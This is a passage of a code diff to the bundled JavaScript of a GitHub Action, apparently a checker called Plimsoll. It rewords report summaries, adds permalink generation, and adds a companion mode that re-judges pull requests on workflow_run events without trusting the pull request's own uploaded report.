-    const all = findings.filter((finding) => finding.waived !== null);
-    const told = all.filter(({ waived }) => waived.by !== 'baseline');
-    return { told, inBaseline: all.length - told.length };
-}
-const counted = (count, one, many = `${one}s`) => `${count} ${count === 1 ? one : many}`;
-/** Counts come from the findings, never from what could be shown; what there is none of is not told. */
-function words_closing(result, shown) {
-    const all = judged(result).length;
-    const word = result.mode === 'scan' ? 'found' : 'introduced';
-    const { existing, fixed, waived } = result.counts;
-    const others = [
-        ...(result.mode === 'scan' || existing === 0 ? [] : [`${existing} existing`]),
-        ...(fixed === 0 ? [] : [`${fixed} fixed`]),
-        ...(waived === 0 ? [] : [`${waived} waived`]),
-    ];
-    const where = shown < all ? `: ${shown} shown here, ${all - shown} elsewhere` : ', all shown here';
-    return [all === 0 ? `Nothing ${word}` : `${all} ${word}${where}`, ...(others.length > 0 ? [others.join(', ')] : [])].join('; ');
-}
-const filesWords = ({ files: { checked, recognized, skipped } }) => `${counted(checked, 'file')} checked, ${recognized} of a known kind${skipped.length === 0 ? '' : `; ${skipped.length} skipped`}`;
-const reaches = (severity, limit) => limit !== 'never' && severities.indexOf(severity) <= severities.indexOf(limit);
-function verdictWords(result) {
-    const problems = result.problems.filter((problem) => problem.status === 'introduced').length;
-    switch (result.verdict) {
-        case 'pass':
-            return result.failOn === 'never'
-                ? 'Pass: findings do not fail this run.'
-                : `Pass: nothing ${result.mode === 'scan' ? 'found' : 'introduced'} at or above ${result.failOn}.`;
-        case 'fail':
-            return `Fail: ${failing(result)} (fail-on: ${result.failOn}).`;
-        case 'incomplete':
-            return `Incomplete: ${counted(problems, 'problem')} left something unjudged, so this is no pass.`;
-    }
-}
-/** `2 critical and 3 high findings` */
-function failing(result) {
-    const all = judged(result);
-    const counts = severities
-        .filter((severity) => reaches(severity, result.failOn))
-        .map((severity) => ({ severity, count: all.filter((finding) => finding.severity === severity).length }))
-        .filter(({ count }) => count > 0);
-    const words = counts.map(({ severity, count }) => `${count} ${severity}`);
-    const last = words.splice(-1).join('');
-    return `${words.length === 0 ? '' : `${words.join(', ')} and `}${last} ${counts.at(-1)?.count === 1 ? 'finding' : 'findings'}`;
-}
-/** What a person can do about something that could not be judged. */
-const wayOut = (rule) => rule === null
-    ? 'Mend the file, or leave its path out in the policy if it is meant to be so.'
-    : 'This is a fault of Plimsoll: please report it with the file; the policy can switch the rule off until then.';
 
 ;// CONCATENATED MODULE: ./lib/reporters/findings-table.js
 
@@ -56377,7 +57064,7 @@ function reviewBody(result, options) {
     page.rows(`Could not be judged:\n\n${problemsHead}`, problems, reserve / 2);
     page.rows(`Waived:\n\n${waivedHead}`, waivedRows(result, options), reserve / 4);
     page.rows('Notices:\n', result.notices.map(noticeItem), 0);
-    return `${page}\n\n${words_closing(result, all.length - rest.length + inTable)}.\n\n${bodyMarker}`;
+    return `${page}\n\n${closing(result, all.length - rest.length + inTable)}.${fixWords(result)}\n\n${bodyMarker}`;
 }
 /** Room for the closing line. */
 const closingMost = 256;
@@ -56689,7 +57376,7 @@ const resolve = `mutation ($id: ID!) { resolveReviewThread(input: { threadId: $i
 
 ;// CONCATENATED MODULE: ./lib/github/threads.js
 
-const query = `query ($owner: String!, $repo: String!, $number: Int!, $after: String) {
+const threads_query = `query ($owner: String!, $repo: String!, $number: Int!, $after: String) {
   repository(owner: $owner, name: $repo) {
     pullRequest(number: $number) {
       headRefOid
@@ -56708,7 +57395,7 @@ const query = `query ($owner: String!, $repo: String!, $number: Int!, $after: St
 async function readConversation({ octokit, owner, repo }, number) {
     const threads = [];
     for (let after = null;;) {
-        const answer = await octokit.graphql(query, { owner, repo, number, after });
+        const answer = await octokit.graphql(threads_query, { owner, repo, number, after });
         const pull = answer.repository?.pullRequest;
         if (!pull)
             throw Object.assign(new Error(`there is no pull request ${number}`), { status: 404 });
@@ -57053,6 +57740,18 @@ function rangeOf({ path, text, span }) {
     return { path, start: text.position(span.start), end: text.position(span.end) };
 }
 
+;// CONCATENATED MODULE: ./lib/reporters/links.js
+
+
+/** Permanent links to lines at the commit that was checked. */
+const permalinks = ({ server, name, base, head }) => ({ path, side, text, span }) => {
+    const commit = side === 'base' ? base : head;
+    if (commit === null)
+        return null;
+    const { first, last } = lineRange(text, span);
+    return `${server}/${name}/blob/${commit}/${pathAddress(path)}#L${first}${last > first ? `-L${last}` : ''}`;
+};
+
 ;// CONCATENATED MODULE: ./lib/reporters/sarif.js
 
 
@@ -57226,7 +57925,7 @@ function summary(result, options) {
     const skipped = result.files.skipped.map(({ path, reason }) => tableRow(cellCode(shortened(path, 300)), escape_text(shortened(reason, 300))));
     const skippedTitle = `### Files not checked${skipped.length > skippedMost ? `, the first ${skippedMost}` : ''}`;
     page.rows(`${skippedTitle}\n\n${tableHead('File', 'Why')}`, skipped.slice(0, skippedMost), 0);
-    return `${page}\n\n${words_closing(result, shown)}. ${filesWords(result)}.\n`;
+    return `${page}\n\n${closing(result, shown)}. ${filesWords(result)}.${fixWords(result)}\n`;
 }
 function severityTable(result) {
     const all = judged(result);
@@ -57305,7 +58004,7 @@ function terminal(result, options) {
             result.notices.flatMap((notice) => wrapped(`note  ${visible(notice)}`, context.width)),
         ];
     const end = [
-        words_closing(result, shown.length),
+        closing(result, shown.length),
         ...(options.quiet ? [] : [filesWords(result)]),
         context.paint(result.verdict, verdictWords(result)),
     ];
@@ -57424,6 +58123,7 @@ const version_version = '0.1.0';
 
 
 
+
 /** GitHub's log is wider, and wraps at nothing. */
 const logWidth = 120;
 const failures = {
@@ -57433,7 +58133,8 @@ const failures = {
 };
 /** Tells a result everywhere it was asked for: the summary last, as it says what the others could not. */
 async function tell(telling) {
-    const { settings, workspace, temporary, linkTo } = telling;
+    const { settings, workspace, temporary } = telling;
+    const linkTo = linksOf(telling);
     print(terminal(telling.result, { rules: ruleInfo, width: logWidth }));
     const unsaid = settings.annotations ? tellAnnotations(telling.result) : 0;
     const notice = troubleOf(telling.result, await tellReview(telling));
@@ -57465,19 +58166,100 @@ function troubleOf(result, { shown, trouble }) {
     const inComments = all.filter(({ fingerprint }) => shown.has(fingerprint)).length;
     return `The review: ${trouble}; ${inComments} of ${all.length} findings have a comment.`;
 }
-async function tellReview({ result, range, settings, api, pull, linkTo }) {
+const linksOf = ({ server, repositoryName: name, range: { base, head } }) => permalinks({ server, name, base, head });
+async function tellReview(telling) {
+    const { result, range, settings, api, pull } = telling;
     if (api === null || pull === null || settings.review === 'never')
         return { shown: new Set(), trouble: null };
-    const input = { pull: pull.number, commit: pull.head, change: range.change, rules: ruleInfo, linkTo };
+    const input = { pull: pull.number, commit: pull.head, change: range.change, rules: ruleInfo, linkTo: linksOf(telling) };
     return draftReview(result, input).then((draft) => publishReview(api, draft), 
     // The diff to stand in may come from the API.
     (error) => ({ shown: new Set(), trouble: explain(error) }));
 }
-/** A branch was deleted: there is nothing to judge, and a required check must not wait for ever. */
-function tellNothing() {
-    print('Pass: nothing is left to check, as the branch was deleted.');
+/** There is nothing to judge, and a required check must not wait for ever. */
+function tellNothing(why) {
+    print(`Pass: there is nothing to check, as ${why}.`);
     setOutputs({ verdict: 'pass', introduced: 0, existing: 0, fixed: 0, 'report-file': '', 'sarif-file': '' });
     return { verdict: 'pass', failure: null };
+}
+
+;// CONCATENATED MODULE: ./lib/action/companion.js
+
+
+
+
+
+
+
+
+
+/** What the workflow of the pull request uploads its report as. */
+const artifact = 'plimsoll-report';
+/**
+ * The run of a pull request has ended that may not write. Its review is written by this one, which judges the pull request anew from GitHub's own data
+ * and believes nothing that the run left behind. The status of this job is no gate: GitHub shows it at the default branch.
+ * @throws {UserError} where GitHub cannot be asked
+ */
+async function runCompanion(run, given, surroundings) {
+    const { api, repositoryName } = surroundings;
+    if (run.on !== 'pull_request')
+        return tellNothing('the run that ended was not for a pull request');
+    if (api === null)
+        throw new user_error/* UserError */.y(`on workflow_run the action needs a token with ${rights}`);
+    const pull = await findPull(api, run);
+    if (pull === null)
+        return tellNothing('the pull request of the run that ended has moved on or was closed');
+    const settings = { ...given, base: null, head: null, annotations: false };
+    const range = await findRange({ kind: 'pull_request', ...pull, privileged: true }, settings, { repository: null, api });
+    if (range === null)
+        return tellNothing('the pull request has no commits');
+    const result = await action_judge_judge(range, settings, repositoryName);
+    const notices = [...(await noticesOf(api, run, pull, result)), ...result.notices];
+    const { verdict } = await tell({ ...surroundings, result: { ...result, notices }, range, settings, pull });
+    return { verdict, failure: null };
+}
+const rights = '`contents: read`, `pull-requests: write` and `actions: read`';
+async function findPull(api, run) {
+    try {
+        return await pullOfRun(api, run);
+    }
+    catch (error) {
+        const { status, message } = failure(error);
+        throw new user_error/* UserError */.y(`GitHub does not say which pull request the run was for (${status}: ${message}): the token needs ${rights}`);
+    }
+}
+/** What a reviewer should know of the run of the pull request, whose workflow and report its author may have changed. */
+async function noticesOf(api, run, { others }, result) {
+    const same = others.map((number) => `#${number}`).join(', ');
+    const claim = await claimOf(api, run);
+    return [
+        ...(typeof claim === 'string' ? [claim] : contradiction(run, claim, result)),
+        ...(others.length === 0 ? [] : [`Other pull requests have the same head, and get no review from this run: ${same}`]),
+    ];
+}
+/** Null where the run left no report, or the token may not read it. */
+async function claimOf(api, run) {
+    try {
+        const text = await readArtifact(api, run.run, artifact);
+        if (text === null)
+            return null;
+        return parseClaim(text) ?? `The artifact ${artifact} of the pull request’s own run is no report of Plimsoll; it was not used.`;
+    }
+    catch (error) {
+        if (error instanceof WrongArtifact)
+            return `The artifact ${artifact} of the pull request’s own run is ${error.message}; it was not used.`;
+        return null;
+    }
+}
+const companion_changed = 'its workflow or its report may have been changed';
+function contradiction({ passed }, claim, result) {
+    if (claim === null)
+        return passed && result.verdict === 'fail' ? [`The pull request’s own run passed, and this one does not: ${companion_changed}.`] : [];
+    const unsaid = judged(result).filter(({ fingerprint }) => !claim.introduced.has(fingerprint)).length;
+    if (unsaid === 0 && (claim.verdict !== 'pass' || result.verdict === 'pass'))
+        return [];
+    const without = unsaid === 0 ? '' : `, without ${counted(unsaid, 'finding')} of this one`;
+    return [`The pull request’s own run reported ${claim.verdict}${without}; this one says ${result.verdict}: ${companion_changed}.`];
 }
 
 ;// CONCATENATED MODULE: ./lib/action/run.js
@@ -57503,17 +58285,19 @@ async function runAction(environment) {
     const repositoryName = readRepository(environment.GITHUB_REPOSITORY);
     const workspace = environment.GITHUB_WORKSPACE ?? '.';
     const api = settings.token === '' ? null : await openApi(settings.token, repositoryName);
+    const server = environment.GITHUB_SERVER_URL ?? 'https://github.com';
+    const told = { workspace, temporary: environment.RUNNER_TEMP ?? workspace, api, repositoryName, server };
+    if (event.kind === 'workflow_run')
+        return runCompanion(event, settings, told);
     const isPrivileged = event.kind === 'pull_request' && event.privileged;
     const repository = isPrivileged ? null : await openCheckout((0,external_node_path_.resolve)(workspace, settings.workingDirectory));
     const range = await findRange(event, settings, { repository, api });
     if (range === null)
-        return tellNothing();
+        return tellNothing('the branch was deleted');
     const result = await action_judge_judge(range, settings, repositoryName);
     const isOwn = settings.base === null && settings.head === null;
     const pull = event.kind === 'pull_request' && isOwn ? { number: event.number, head: event.head } : null;
-    const server = environment.GITHUB_SERVER_URL ?? 'https://github.com';
-    const linkTo = permalinks({ server, name: repositoryName, base: range.base, head: range.head });
-    return tell({ result, range, settings, workspace, temporary: environment.RUNNER_TEMP ?? workspace, api, pull, linkTo });
+    return tell({ ...told, result, range, settings, pull });
 }
 async function readPayload(path) {
     try {
